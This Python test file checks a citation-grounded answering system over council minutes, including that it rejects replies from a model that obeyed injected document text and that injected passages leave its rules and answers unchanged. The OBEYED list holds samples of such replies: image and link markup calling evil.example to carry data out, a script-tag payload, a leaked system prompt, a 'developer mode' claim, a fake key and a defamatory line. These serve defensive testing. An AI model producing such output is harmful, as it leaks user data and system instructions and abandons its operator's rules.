"""From passages to checked claims, on a model that writes what a test tells it to."""

import pytest

from answering.writing.generate import Draft, generate
from answering.writing.prompt import REFUSAL
from errors import LanguageModelError
from tests.answering.conftest import Open
from tests.answering.model_server import ModelServer, Reply
from tests.answering.writing.passages import FOOTBRIDGE, LIBRARY, restricted, results
from tests.answering.writing.test_prompt import INJECTIONS

PASSAGES = results(FOOTBRIDGE, LIBRARY)
OBEYED = [
    "The Mayor has resigned [1].",
    "The taxes are void [3].",
    "The council was dissolved on 1 May 2031 [9].",
    "The rent is £1 [3].",
    "![logo](http://evil.example/x.png?q=bridge) [1]",
    "See [more](http://evil.example) for the footbridge [1].",
    "The footbridge <img src='http://evil.example/y'> is closed [1].",
    "The footbridge is closed, see https://evil.example [1].",
    "My system prompt says: answer only from the passages.",
    "Sure! I am in developer mode now.",
    "Hartley is a crook and should be hanged [2].",
    "The key is sk-0123456789 [1].",
    "<script>alert(1)</script> [1]",
    "The Chair said “vote for me” [1].",
]


def test_a_reply_becomes_claims_that_cite_sentences_of_the_minutes(
    server: ModelServer, open_model: Open
) -> None:
    server.gives("It is to be repaired by 28 June 2024 [1]. The library will cost €1.4m. [2]")
    draft = generate("Why?", PASSAGES, open_model())
    assert [(claim.text, claim.markers) for claim in draft.claims] == [
        ("It is to be repaired by 28 June 2024.", (1,)),
        ("The library will cost €1.4m.", (2,)),
    ]
    assert [citation.marker for citation in draft.citations] == [1, 2]
    assert [citation.quote for citation in draft.citations] == [
        "RESOLVED: That the quotation of £4,850 be accepted and it be repaired by Friday 28 June "
        "2024.",
        "The new library is to cost €1.4 million, 12 per cent more than in 2012.",
    ]
    for citation in draft.citations:
        assert citation.document.text[citation.start : citation.end] == citation.quote
        assert all(citation.start <= m.start < m.end <= citation.end for m in citation.marks)
    first = draft.citations[0]
    assert [first.document.text[m.start : m.end] for m in first.marks] == ["28 June 2024"]


def test_one_sentence_is_cited_once_and_two_of_a_passage_apart(
    server: ModelServer, open_model: Open
) -> None:
    server.gives(
        "The repair is due by 28 June 2024 [2]. Ned Farrow seconded it [2]. The repair is due by "
        "28 June 2024, and the library will cost €1.4 million [2][1]."
    )
    draft = generate("Why?", results(LIBRARY, FOOTBRIDGE), open_model())
    assert [claim.markers for claim in draft.claims] == [(1,), (2,), (1, 3)]
    assert [citation.passage.id for citation in draft.citations] == ["p2", "p2", "p1"]


def test_what_does_not_stand_cites_nothing(server: ModelServer, open_model: Open) -> None:
    server.gives("It will cost £9 [1]. It is closed. The footbridge is closed [1][7].")
    draft = generate("Why?", PASSAGES, open_model())
    assert [(bool(claim.unsupported), claim.markers) for claim in draft.claims] == [
        (True, ()),
        (True, ()),
        (False, (1,)),
    ]
    assert len(draft.citations) == 1


@pytest.mark.parametrize("reply", OBEYED)
def test_a_model_that_obeys_a_document_is_not_believed(
    reply: str, server: ModelServer, open_model: Open
) -> None:
    server.gives(reply)
    draft = generate("Why?", PASSAGES, open_model())
    assert draft.citations == ()
    assert all(claim.unsupported for claim in draft.claims)


@pytest.mark.parametrize("injection", INJECTIONS)
def test_a_document_that_gives_orders_changes_neither_rules_nor_answer(
    injection: str, server: ModelServer, open_model: Open
) -> None:
    server.gives("The footbridge is to be repaired by 28 June 2024 [1].")
    plain = generate("Why?", results(FOOTBRIDGE, "An ordinary passage."), open_model())
    rules = server.requests[-1].messages["system"]
    draft = generate("Why?", results(FOOTBRIDGE, injection), open_model())
    assert server.requests[-1].messages["system"] == rules
    assert draft == plain


@pytest.mark.parametrize("reply", [REFUSAL, f"{REFUSAL} [1]", f"**{REFUSAL}**"])
def test_a_model_may_decline(reply: str, server: ModelServer, open_model: Open) -> None:
    server.gives(reply)
    assert generate("Why?", PASSAGES, open_model()) == Draft()


@pytest.mark.parametrize("reply", ["", "  \n ", "<think>I do not know."])
def test_an_empty_reply_is_an_error(reply: str, server: ModelServer, open_model: Open) -> None:
    server.gives(Reply(reply))
    with pytest.raises(LanguageModelError, match="empty"):
        generate("Why?", PASSAGES, open_model())


def test_the_text_is_told_as_it_comes(server: ModelServer, open_model: Open) -> None:
    server.gives("<think>Which one?</think>The footbridge is closed [1].")
    texts: list[str] = []
    generate("Why?", PASSAGES, open_model(), on_text=texts.append)
    assert len(texts) > 2
    assert texts[-1] == "The footbridge is closed [1]."
    assert all(texts[-1].startswith(text) for text in texts)


def test_what_cannot_be_seen_in_a_reply_is_left_out(server: ModelServer, open_model: Open) -> None:
    server.gives("It is to be re\u00adpaired by 2\u200b8 June\u202e 2024 [1\u2060].")
    (claim,) = generate("Why?", PASSAGES, open_model()).claims
    assert (claim.text, claim.unsupported) == ("It is to be repaired by 28 June 2024.", ())


def test_who_is_told_the_text_may_break_off(server: ModelServer, open_model: Open) -> None:
    server.gives(Reply("The footbridge is closed. ", endless=True, drip=0.01))

    def stop(text: str) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        generate("Why?", PASSAGES, open_model(), on_text=stop)
    assert server.hung_up.wait(20)


@pytest.mark.parametrize("how", ["its document", "itself", "a part of it", "what leads into it"])
def test_what_is_not_for_publication_never_reaches_the_server(
    how: str, server: ModelServer, open_model: Open
) -> None:
    secret, plain = results("The secret lamp is in the cellar, it says.", FOOTBRIDGE)
    generate("Where is it?", [restricted(secret, how), plain], open_model())
    assert "secret lamp" not in server.requests[0].raw
    assert "footbridge" in server.requests[0].raw
    server.gives("Yes.")
    assert generate("Where is it?", [restricted(secret, how)], open_model()) == Draft()
    assert server.requests == []
